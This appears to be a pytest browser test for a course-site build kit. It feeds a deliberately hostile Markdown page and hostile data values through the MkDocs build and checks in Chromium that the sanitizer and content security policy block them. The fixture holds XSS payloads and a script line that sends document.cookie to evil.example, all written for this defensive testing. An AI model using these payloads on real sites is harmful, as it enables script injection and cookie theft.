"""Hostile pages built from a small fixture project and opened in Chromium: nothing runs (no dialog),
nothing is requested from another host, no secret text is published. Each defence is also tested
alone – the sanitizer with the policy switched off and the policy with the sanitizer switched off –
by patching the build in the test process, never by a switch in the kit."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from textwrap import dedent

import pytest

from conftest import ROOT
from factory import module_text, write_site
from kit.checks.browser import find_chromium
from kit.checks.localserver import serve
from kit.checks.node import node_bin

pytestmark = [pytest.mark.browser]

SECRETS = ["root:x:0:0", "repositoryformatversion", "SEKRET-KOMENTARZ", "TAJNA-NOTATKA-TRENERA"]
HOSTILE_PAGE = dedent("""\
    # Wroga strona

    WIDOCZNY-TEKST na początku.

    <svg/onload=alert(1)>

    <img src="brak.png" alt="obraz"
      onerror="alert(2)">

    ![Mapa](brak2.png){ onerror="alert(3)" }

    [Link Markdown](javascript:alert(4))

    <a href="jav&#x61;script:alert(5)">Link HTML</a>

    <style>article p { display: none !important }</style>

    <form action="https://evil.example/collect" method="post"><input type="text" name="q" value="dane">
    <button type="submit">Wyślij</button></form>

    <iframe src="https://evil.example/ramka"></iframe>

    <object data="https://evil.example/x.swf"></object>

    <img src="https://evil.example/piksel.png" alt="piksel">

    <!-- SEKRET-KOMENTARZ: notatka trenera w komentarzu -->

    <p onmouseover="alert(6)">WIDOCZNY-TEKST po najechaniu</p>

    <details open ontoggle="alert(7)"><summary>Pytanie</summary>Odpowiedź</details>

    <script>alert(8); fetch("https://evil.example/" + document.cookie)</script>
    """)
# Values from data files: the module's summary, the glossary's expansion, an edition text.
HOSTILE_SUMMARY = "'<img src=x onerror=alert(11)>Opis'"
HOSTILE_GLOSSARY = dedent("""\
    - term: JST
      expansion: <svg onload=alert(12)>jednostka
      definition: Gmina, powiat lub województwo.
    """)

# The build in the test process, with one defence patched out (the kit has no switch for it).
_BUILD = """
import sys
from mkdocs.__main__ import cli
import kit.checks.safety, kit.model.materials
kit.model.materials.lint_project = lambda project: []      # the source lint would refuse the page
kit.checks.safety.lint_project = lambda project: []
if "{off}" == "sanitizer":
    import kit.site.sanitize
    kit.site.sanitize.clean = lambda html: html
if "{off}" == "csp":
    import kit.site.csp
    kit.site.csp.apply = lambda html, content=None, offline=False: html
sys.argv = ["mkdocs", "build", "--strict", "-q", "-f", "{config}", "--site-dir", "{site}"]
cli()
"""


def build_fixture(root: Path, off: str = "", hostile: bool = False) -> tuple[Path, subprocess.CompletedProcess]:
    pages = {"wrogi.md": HOSTILE_PAGE} if hostile else {}
    modules = {"m01-pierwszy": module_text().replace('"Krótki opis modułu testowego."', HOSTILE_SUMMARY)}
    config = write_site(root, pages, modules)
    (root / "materials" / "glossary.yml").write_text(HOSTILE_GLOSSARY, "utf-8")
    site = root / "site"
    env = dict(os.environ, KIT_PDF="0", NO_MKDOCS_2_WARNING="1", SOURCE_DATE_EPOCH="1767225600")
    proc = subprocess.run([sys.executable, "-c", _BUILD.format(off=off, config=config, site=site)], cwd=root,
                          env=env, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return site, proc


def browse(site: Path, paths: list[str]) -> list[dict]:
    with serve(site) as base:
        run = subprocess.run([str(node_bin()), str(ROOT / "tests" / "browser" / "hostile.js"), str(find_chromium()),
                              json.dumps(SECRETS), *[base + p for p in paths]], capture_output=True, text=True,
                             cwd=ROOT, timeout=240)
    assert run.returncode == 0, run.stderr[-2000:]
    return json.loads(run.stdout)


PAGES = ["wrogi/", "moduly/m01-pierwszy/", "zasoby/slownik/", "deklaracja-dostepnosci/"]


@pytest.fixture(scope="module", params=["", "sanitizer", "csp"], ids=["both", "policy-only", "sanitizer-only"])
def visits(request, tmp_path_factory):
    site, _ = build_fixture(tmp_path_factory.mktemp("wrogi"), off=request.param, hostile=True)
    return request.param, site, browse(site, PAGES)


def test_nothing_runs(visits):
    _, _, results = visits
    assert [r["dialogs"] for r in results] == [[]] * len(PAGES), results


def test_nothing_requested_from_another_host(visits):
    _, _, results = visits
    assert [r["foreign"] for r in results] == [[]] * len(PAGES), results


def test_no_secret_text_and_nothing_hidden(visits):
    off, _, results = visits
    assert all(r["secrets"] == [] or (off == "sanitizer" and r["secrets"] == ["SEKRET-KOMENTARZ"])
               for r in results), results
    if off != "sanitizer":
        assert all(r["hidden"] == [] for r in results), results


def test_policy_blocks_what_the_sanitizer_let_through(visits):
    off, site, results = visits
    html = (site / "wrogi" / "index.html").read_text("utf-8")
    if off == "sanitizer":  # the raw page still carries the attack; the policy stopped it in the browser
        assert "onerror=" in html and "<script>alert(8)" in html
        assert any("script-src" in v for v in results[0]["violations"]), results[0]
    elif off == "":
        assert "onerror" not in html and "alert(8)" not in html and "evil.example/ramka" not in html


def test_theme_runs_under_the_policy_on_a_clean_page(visits):
    off, _, results = visits
    if off != "sanitizer":
        clean = [r for r in results if not r["url"].endswith("wrogi/")]
        assert [r["violations"] for r in clean] == [[]] * len(clean), clean
        assert [r["errors"] for r in clean] == [[]] * len(clean), clean


def test_data_values_are_shown_as_text(visits):
    off, site, _ = visits
    if off == "":
        module = (site / "moduly" / "m01-pierwszy" / "index.html").read_text("utf-8")
        assert "&lt;img src=x onerror=alert(11)&gt;Opis" in module and "<img src=x" not in module
        glossary = (site / "zasoby" / "slownik" / "index.html").read_text("utf-8")
        assert "&lt;svg onload=alert(12)&gt;jednostka" in glossary and "<svg onload" not in glossary
